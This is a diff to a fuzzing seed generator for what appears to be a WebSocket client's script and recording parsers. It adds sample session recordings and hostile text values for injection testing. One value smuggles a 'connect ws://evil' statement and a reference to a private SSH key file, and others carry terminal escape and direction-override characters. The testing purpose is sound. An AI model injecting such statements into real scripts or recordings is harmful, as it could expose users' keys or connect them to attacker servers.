@@ -130,7 +130,35 @@ SCRIPTS = {
     "variable-in-arguments": ["@a connect ${URL}", "@a header ${NAME}: ${NAME}", "@a close 1000 ${NAME}"],
 }
 
+# What a server, or whoever made a recording, may put where a script would take it for a statement.
+TEXTS = {
+    "statements": "x\nconnect ws://evil\n>file /home/me/.ssh/id_ed25519\n#",
+    "variables": "${A} $${ ${",
+    "spaces": " a  # b\t#",
+    "quotes": '"a  # b" \\"',
+    "controls": "\x1b[2J\x00\x85\u2028\u202e\u200b\ufeff",
+    "marks": "\u0301${\u0301A} e\u0301 \U0001f469\u200d\U0001f680",
+}
+
+
+def recording_seeds():
+    line = '{"time":"2026-11-23T12:00:0%d.000000Z","event":%s}\n'
+    opened = line % (0, '"open","url":"ws://h/","subprotocol":"chat"')
+    message = line % (1, '"message","direction":"sent","type":"text","data":"a"')
+    binary = line % (1, '"message","direction":"received","type":"binary","data_base64":"AP8="')
+    ping = line % (2, '"ping","direction":"sent","data":"p"') + line % (3, '"pong","direction":"received","data":"p"')
+    closed = line % (4, '"close","code":4000,"reason":"bye","by":"server","clean":true')
+    lost = line % (4, '"close","code":null,"reason":"","by":null,"clean":false')
+    files = {"session": opened + message + binary + ping + closed, "two": opened + lost + "\n" + opened + message}
+    seeds = {name: b"\0" + text.encode() for name, text in files.items()}
+    for index, (name, text) in enumerate(TEXTS.items()):
+        seeds[f"texts-{name}"] = b"\1" + f"echo:\0{text}".encode("utf-8", "surrogatepass").replace(b"\0\0", b"\0")
+        seeds[f"step-{name}"] = bytes([2, index]) + text.encode("utf-8", "surrogatepass")
+    return seeds
+
+
 write("decoder", decoder_seeds())
+write("recording", recording_seeds())
 write("handshake", {name: b"\x00\x06" + "\r\n".join(lines + ["", ""]).encode() for name, lines in ANSWERS.items()})
 write("handshake", {"frames-behind": b"\x01\x20" + "\r\n".join(GOOD + ["", ""]).encode() + frame(0x81, b"hi")})
 write("commandline", {name: "\n".join(lines).encode() for name, lines in COMMAND_LINES.items()})
